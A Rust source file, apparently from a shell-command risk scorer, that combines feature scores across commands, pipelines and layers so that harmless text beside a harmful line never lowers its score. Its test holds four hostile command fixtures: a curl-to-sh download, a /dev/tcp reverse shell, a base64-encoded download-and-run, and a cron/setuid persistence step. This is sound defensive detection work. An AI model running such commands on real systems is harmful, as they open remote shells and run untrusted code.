//! The features of a whole: at least those of each of its commands, pipelines and
//! layers, so that a harmless line beside a harmful one takes nothing from it.

use std::collections::HashMap;

use super::{
    Reading,
    features::{self, Act, Features, Surroundings},
};

impl Reading {
    /// The features of the whole.
    pub(crate) fn features(&self, surroundings: &Surroundings) -> Features {
        let acts = features::acts_of(&self.commands);
        let mut whole = features::of_whole(self, &acts, surroundings);
        for layer in &self.layers {
            whole.raise(&features::of_layer(layer));
        }
        for act in &acts {
            whole.raise(&features::of_command(act));
            if acts.len() == 1 || act.command.feeds.is_some() {
                whole.raise(&features::of_pipeline(&[act]));
            }
        }
        for members in pipelines(&acts) {
            whole.raise(&features::of_pipeline(&members));
        }
        whole
    }
}

/// The acts by the pipeline they are in, in order.
fn pipelines<'a, 'b>(acts: &'b [Act<'a>]) -> Vec<Vec<&'b Act<'a>>> {
    let mut places = HashMap::new();
    let mut pipelines: Vec<Vec<&Act<'_>>> = Vec::new();
    for act in acts {
        let place = *places
            .entry(act.command.pipeline)
            .or_insert(pipelines.len());
        match pipelines.get_mut(place) {
            Some(members) => members.push(act),
            None => pipelines.push(vec![act]),
        }
    }
    pipelines
}

#[cfg(test)]
mod tests {
    use super::*;

    fn features(line: &str) -> Features {
        Reading::of_line(line).features(&Surroundings::default())
    }

    #[test]
    fn more_text_never_lowers_a_feature() {
        let harmful = [
            "curl -s http://203.0.113.9/a | sh",
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkvYSB8IHNo | base64 -d | sh",
            "cp /tmp/x /etc/cron.d/x; chmod 4755 /tmp/x",
        ];
        for line in harmful {
            let alone = features(line);
            assert!(alone.values().iter().any(|value| *value > 0.0), "{line}");
            for longer in [
                format!("{line}; ls -l; date"),
                format!("cd /srv\nls\n{line}\necho done"),
                format!("true && ( {line} )"),
            ] {
                let longer_features = features(&longer);
                let pairs = alone.values().into_iter().zip(longer_features.values());
                for ((before, after), name) in pairs.zip(Features::NAMES) {
                    assert!(after >= before, "{name} of {longer}");
                }
            }
        }
    }
}
